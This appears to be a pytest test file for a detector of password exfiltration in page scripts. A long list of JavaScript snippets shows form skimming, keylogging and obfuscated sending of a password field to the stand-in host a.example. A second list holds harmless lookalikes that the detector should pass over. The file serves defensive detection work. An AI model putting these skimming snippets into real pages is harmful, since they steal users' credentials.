"""What scripts do with a password: constructs that let it out, and others that only look like it."""

from __future__ import annotations

import pytest

from webshellhunt.client_scripts.exfiltration import Destination
from webshellhunt.client_scripts.script_analysis import ScriptAnalysis, analyse_scripts

PAGE = '<form id="f"><input id="user"><input type="password" id="pw"></form><script>{}</script>'
OUTSIDE = frozenset({Destination.FOREIGN, Destination.KEPT})
LETS_OUT = [
    (
        'async function login(){ const r = await fetch("https://a.example/", {method:"POST", body: new '
        'URLSearchParams({p: document.querySelector("#pw").value})}); }'
    ),
    'Promise.resolve(document.getElementById("pw").value).then(v => fetch("//a.example/"+v));',
    (
        'class L { constructor(){ this.pw = document.getElementById("pw"); } send(){ '
        'navigator.sendBeacon("//a.example/", this.pw.value) } } new L().send();'
    ),
    (
        'class L { constructor(){ this.pw = document.getElementById("pw"); } send(){ '
        'navigator.sendBeacon("//a.example/", this.pw.value) } } var l = new L(); '
        "document.forms[0].onsubmit = () => l.send();"
    ),
    'class L { send(){ navigator.sendBeacon("//a.example/", document.getElementById("pw").value) } }',
    (
        'class L { pw = document.getElementById("pw"); send(){ navigator.sendBeacon("//a.example/", '
        "this.pw.value) } } new L().send();"
    ),
    'const {value} = document.getElementById("pw"); fetch("//a.example/?"+value);',
    'const {a: {value: v}} = {a: document.getElementById("pw")}; fetch("//a.example/?"+v);',
    'function s({p}){ fetch("//a.example/"+p) } s({p: document.getElementById("pw").value});',
    'const s = ({p, q = 2}, r) => { fetch("//a.example/"+p) }; s({p: document.getElementById("pw").value}, 3);',
    'const s = ([p, q]) => { fetch("//a.example/"+q) }; s([1, document.getElementById("pw").value]);',
    'fetch(`//a.example/?${encodeURIComponent(document.getElementById("pw").value)}`);',
    "$('#pw').on('keyup', function(){ $.get('//a.example/?' + $(this).val()) });",
    "$(document).on('keyup', '#pw', function(){ $.get('//a.example/?' + $(this).val()) });",
    "$(function(){ $(\"#pw\").keyup(function(e){ $.get('//a.example/?' + e.key) }) });",
    (
        'setInterval(function(){ var x = document.getElementById("pw"); if (x.value) new '
        'Image().src="//a.example/?"+x.value; }, 1000);'
    ),
    (
        'document.forms[0].addEventListener("submit", function(e){ fetch("//a.example/", {body: new '
        "FormData(e.target)}) });"
    ),
    (
        'document.forms[0].onsubmit = e => { fetch("//a.example/", {body: new '
        'FormData(document.getElementById("f"))}) };'
    ),
    'eval(atob("ZmV0Y2goIi8vYS5leGFtcGxlLyIrZG9jdW1lbnQuZ2V0RWxlbWVudEJ5SWQoInB3IikudmFsdWUp"));',
    'window["fe"+"tch"]("//a.example/", document.getElementById("pw").value);',
    'document["getElem"+"entById"]("pw")["val"+"ue"].split("").forEach(function(c){ fetch("//a.example/"+c) });',
    (
        'var s = document.createElement("script"); s.src = "//a.example/?" + '
        'document.getElementById("pw").value; document.body.appendChild(s);'
    ),
    'x = new XMLHttpRequest; x.open("POST", "//a.example"); x.send(document.getElementById("pw").value);',
    'fetch("//a.example", {body: JSON.stringify(Object.fromEntries(new FormData(document.forms[0])))});',
    'fetch("//a.example/" + [...document.querySelectorAll("#pw")].map(e => e.value));',
    (
        'function A(){}; A.prototype.go = function(){ fetch("//a.example/"+this.p) }; var a = new A; a.p '
        '= document.getElementById("pw").value; a.go();'
    ),
    '$.ajax({url:"//a.example", data: {p: $("#pw").val()}, success: function(){}});',
    'const p = $("#pw").val(); axios.post("//a.example/", {p});',
    (
        'var buf; document.getElementById("pw").addEventListener("input", e => buf = e.target.value); '
        'setInterval(() => fetch("//a.example/"+buf), 1000);'
    ),
    (
        'setInterval(() => { if (buf) fetch("//a.example/"+buf) }, 1000); var buf = ""; '
        'document.getElementById("pw").addEventListener("input", e => { buf = e.target.value });'
    ),
    (
        '(function(){ var buf = ""; function flush(){ if (!buf) return; fetch("//a.example/"+buf); buf = '
        '""; } setInterval(flush, 100); document.getElementById("pw").oninput = function(){ buf = '
        "this.value; }; })();"
    ),
    (
        'var f = document.forms[0], d = ""; for (var i=0;i<f.elements.length;i++) d += '
        'f.elements[i].name + "=" + f.elements[i].value + "&"; fetch("//a.example/"+d);'
    ),
    'document.querySelectorAll("input").forEach(i => { d += i.value; }); var d; fetch("//a.example/"+d);',
    (
        "var q = id => document.getElementById(id); window.onbeforeunload = function(){ "
        'navigator.sendBeacon("//a.example", q("pw").value) };'
    ),
    'const log = debounce(function(){ fetch("//a.example/"+document.getElementById("pw").value) }, 300);',
    (
        'var o = { init: function(){ this.el = document.getElementById("pw"); this.bind(); }, bind: '
        "function(){ var self = this; this.el.onblur = function(){ self.send(); }; }, send: function(){ "
        'fetch("//a.example/"+this.el.value); } }; o.init();'
    ),
    (
        '(() => { const w = new WebSocket("wss://a.example"); document.addEventListener("keydown", '
        "({key}) => w.send(key)); })();"
    ),
    (
        "document.onkeypress = function(e){ e = e || window.event; var k = e.keyCode ? e.keyCode : "
        'e.which; new Image().src = "//a.example/?" + String.fromCharCode(k); };'
    ),
    'location = "//a.example/?" + document.getElementById("pw").value;',
    'window.location.href = "//a.example/?" + document.getElementById("pw").value;',
    'document.location = "//a.example/?" + document.getElementById("pw").value;',
    'top.location.replace("//a.example/?" + document.getElementById("pw").value);',
    'document.getElementById("f").setAttribute("action", "//a.example/");',
    'document.getElementById("f").action = "//a.example/";',
    '$("#f").attr("action", "https://a.example/x");',
    'document.cookie = "a=" + btoa(document.getElementById("pw").value);',
    (
        'switch (document.getElementById("pw").value) { default: fetch("//a.example/?" + '
        'document.getElementById("pw").value); }'
    ),
    'try { throw document.getElementById("pw").value } catch (e) { fetch("//a.example/" + e) }',
    (
        'let g = function*(){ yield document.getElementById("pw").value }; for (const v of g()) '
        'fetch("//a.example/" + v);'
    ),
    'new Promise((ok) => ok(document.getElementById("pw").value)).then(v => fetch("//a.example/" + v));',
    (
        '(async () => { const v = await get(); fetch("//a.example/" + v); async function get(){ return '
        'document.getElementById("pw").value } })();'
    ),
    '$("#pw").val() && $.post("//a.example", $("form").serializeArray());',
    (
        'var x = {}; x["a" + Math.random()] = document.getElementById("pw").value; for (var k in x) '
        'fetch("//a.example/" + x[k]);'
    ),
    (
        'const m = new Map(); m.set("p", document.getElementById("pw").value); m.forEach(v => '
        'fetch("//a.example/" + v));'
    ),
    'const m = new Map(); m.set("p", document.getElementById("pw").value); fetch("//a.example/" + m.get("p"));',
    'document.getElementById("pw").value.replace(/./g, function(c){ new Image().src = "//a.example/" + c; });',
    ('var a = document.createElement("a"); a.href = "https://" + document.getElementById("pw").value + ".a.example"; '),
    'const h = {"X-P": document.getElementById("pw").value}; fetch("//a.example", {headers: h});',
    'let r = new Request("//a.example", {body: document.getElementById("pw").value}); fetch(r);',
    'import("//a.example/" + document.getElementById("pw").value);',
    'document.getElementById("pw").form.action = "//a.example";',
    'document.write("<img src=\'//a.example/?" + document.getElementById("pw").value + "\'>");',
    'document.body.innerHTML += "<img src=\'//a.example/?" + document.getElementById("pw").value + "\'>";',
    'x ||= document.getElementById("pw").value; fetch("//a.example/" + x);',
    'const f = new FormData(document.querySelector("form")); fetch("//a.example/" + f.get("pw"));',
    'export default class { send() { fetch("//a.example/" + document.getElementById("pw").value); } }',
    'import a from "./b.js"; export const f = () => fetch("//a.example/" + document.getElementById("pw").value);',
    'o = { async *g() { yield document.getElementById("pw").value }, '
    'async go() { for await (const v of this.g()) fetch("//a.example/" + v) } }; o.go();',
]
ONLY_SEEMS = [
    'if (document.getElementById("pw").value.length < 8) alert("short");',
    (
        'var el = document.getElementById("pw"); el.type = el.type === "password" ? "text" : "password"; '
        'fetch("//a.example/?" + el.type);'
    ),
    'document.cookie = "u=" + document.getElementById("user").value;',
    'document.getElementById("pw").value = ""; fetch("//a.example/");',
    'ga("send", "event", "login", document.getElementById("user").value);',
    (
        'var o = {u: document.getElementById("user").value, p: document.getElementById("pw").value}; '
        'fetch("//a.example/" + o.u);'
    ),
    'function f(p){ return p } f(document.getElementById("pw").value); fetch("//a.example/" + f(1));',
    'var p = document.getElementById("pw").value; p = ""; fetch("//a.example/" + p);',
    (
        '$("#pw").on("keyup", function(e){ if (e.keyCode == 13) $("#f").submit(); fetch("//a.example/?" '
        '+ $("#user").val()); });'
    ),
    'fetch("//a.example/?" + $("#pw").attr("id"));',
    'fetch("//a.example/?" + $("#pw").closest("div").attr("class"));',
    'fetch("//a.example/?" + $("#pw").parent().find("#user").val());',
    'var ok = /[a-z]/.test(document.getElementById("pw").value); fetch("//a.example/" + ok);',
    'var s = 0; if (document.getElementById("pw").value.match(/\\d/)) s++; fetch("//a.example/" + s);',
    '$("#f").validate({ rules: { pw: { required: true } } }); fetch("//a.example/");',
    'document.getElementById("f").action = "/login?x=" + navigator.language;',
    'sha1(document.getElementById("pw").value).then(h => fetch("//api.pwned.example/range/" + h.slice(0, 5)));',
    'var strong = checkStrength(document.getElementById("pw").value); localStorage.strength = strong;',
    (
        'document.getElementById("user").addEventListener("keyup", function(e){ fetch("//a.example/?" + '
        "e.target.value) });"
    ),
    'function send(v){ fetch("//a.example/" + v) } send(document.getElementById("user").value);',
]
LIBRARY = "(function () { var a; " + "a = f(a, 1, 2, 3); " * 1_000 + "})();"


def analysed(script: str) -> ScriptAnalysis:
    return analyse_scripts(PAGE.format(script), lambda *_: None, is_script=False)


@pytest.mark.parametrize("script", LETS_OUT)
def test_a_script_that_lets_a_password_out(script: str) -> None:
    found = analysed(script)
    assert any(each.address.destination in OUTSIDE for each in found.exfiltrations)
    assert not found.cut


@pytest.mark.parametrize("script", ONLY_SEEMS)
def test_a_script_that_only_seems_to(script: str) -> None:
    assert analysed(script).exfiltrations == []


def test_a_library_is_passed_over_and_what_follows_it_is_run() -> None:
    found = analysed(LIBRARY + 'fetch("//a.example/" + document.getElementById("pw").value);')
    assert len(found.exfiltrations) == 1
    assert not found.cut


def test_a_function_in_code_that_takes_too_long_is_entered_alone() -> None:
    endless = (
        "for (var i = 0; g(i); i++) { h(i, "
        + "k(i) + " * 60
        + "1); for (var j in i) { for (var l in j) { m(j, l); } } } "
    )
    send = 'function send() { fetch("//a.example/" + document.getElementById("pw").value); } '
    found = analysed(
        "(function () { " + "var t = 'x'; while (t.length < 1e6) { t = t + 'y'; } " + endless * 40 + send + "})();"
    )
    assert len(found.exfiltrations) == 1
